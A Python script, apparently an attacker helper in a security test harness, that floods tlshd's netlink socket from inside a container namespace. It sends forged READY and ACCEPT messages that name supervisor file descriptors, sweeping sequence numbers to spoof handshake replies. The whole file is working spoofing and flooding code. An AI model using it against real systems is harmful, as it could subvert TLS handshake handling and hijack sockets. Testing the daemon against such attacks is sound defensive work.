"""A container's root attacking tlshd's netlink socket in its namespace.

Run as an unprivileged user inside its own user and network namespace
(``setpriv --reuid 65534 ... unshare -Urn python3 netlink_attacker.py``):
there it holds CAP_NET_ADMIN over the network namespace, as the root of a
rootless container does.  It waits until the supervisor's handshake
socket shows up in /proc/self/net/netlink (a generic netlink socket that
joined a group), then for DURATION seconds sends it, as fast as it can:

- forged READY notifications and forged ACCEPT replies for the next
  sequence numbers, naming supervisor fds (3..40 and 999) and a key
  serial, by unicast to its port;
- the same by multicast to the group it listens on.

It prints "target PORT" once it has found the socket, waits for a line on
stdin, prints "flooding" when it starts, and a JSON summary at the end
(after DURATION seconds, or at SIGTERM).
Standard library only: it runs under the system python3.
"""

from __future__ import annotations

import errno
import json
import signal
import socket
import struct
import sys
import time

NETLINK_GENERIC = 16
HDR = struct.Struct("=IHHII")
CMD_READY, CMD_ACCEPT = 1, 2
A_SOCKFD, A_MESSAGE_TYPE, A_AUTH_MODE, A_PEER_IDENTITY = 1, 3, 5, 6
SWEEP = 5000


def target(timeout: float) -> tuple[int, int]:
    """(port, group bits) of the generic netlink socket that listens."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        with open("/proc/self/net/netlink") as f:
            for line in f.read().splitlines()[1:]:
                fields = line.split()
                if (len(fields) > 3 and fields[1] == str(NETLINK_GENERIC)
                        and int(fields[3], 16) and int(fields[2]) > 0):
                    return int(fields[2]), int(fields[3], 16)
        time.sleep(0.1)
    return 0, 0


def attr(atype: int, payload: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(payload), atype) + payload


def message(family: int, cmd: int, seq: int, attrs: bytes = b"") -> bytes:
    body = struct.pack("=BBH", cmd, 1, 0) + attrs
    return HDR.pack(HDR.size + len(body), family, 0, seq, 0) + body


def accept_reply(family: int, seq: int, fd: int) -> bytes:
    return message(family, CMD_ACCEPT, seq,
                   attr(A_SOCKFD, struct.pack("=i", fd))
                   + attr(A_MESSAGE_TYPE, struct.pack("=I", 1))
                   + attr(A_AUTH_MODE, struct.pack("=I", 2))
                   + attr(A_PEER_IDENTITY, struct.pack("=I", 0x12345678)))


def main() -> int:
    family, duration, wait = int(sys.argv[1]), float(sys.argv[2]), \
        float(sys.argv[3])
    port, groups = target(wait)
    print("target %d" % port, flush=True)
    if not port:
        return 3
    sys.stdin.readline()  # "go"
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_GENERIC)
    sock.bind((0, 0))
    counts = {"unicast_sent": 0, "unicast_refused": 0, "unicast_other": 0,
              "multicast_sent": 0, "multicast_failed": 0}
    fds = [*range(3, 41), 999]
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    print("flooding", flush=True)
    end = time.monotonic() + duration
    seq = 0
    while time.monotonic() < end and not stop:
        # The supervisor numbers its requests 1, 2, 3...: sweep the first
        # SWEEP numbers over and over, so that some forged reply is queued
        # when it sends the request with that number.
        seq = seq % SWEEP + 1
        batch = [message(family, CMD_READY, 0),
                 accept_reply(family, seq, fds[seq % len(fds)]),
                 accept_reply(family, seq + 1, fds[(seq + 7) % len(fds)])]
        for data in batch:
            try:
                sock.sendto(data, (port, 0))
                counts["unicast_sent"] += 1
            except ConnectionRefusedError:
                counts["unicast_refused"] += 1
            except OSError as e:
                counts["unicast_other"] += 1
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    counts["last_unicast_error"] = e.errno
            try:
                sock.sendto(data, (0, groups))
                counts["multicast_sent"] += 1
            except OSError as e:
                counts["multicast_failed"] += 1
                counts["last_multicast_error"] = e.errno
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
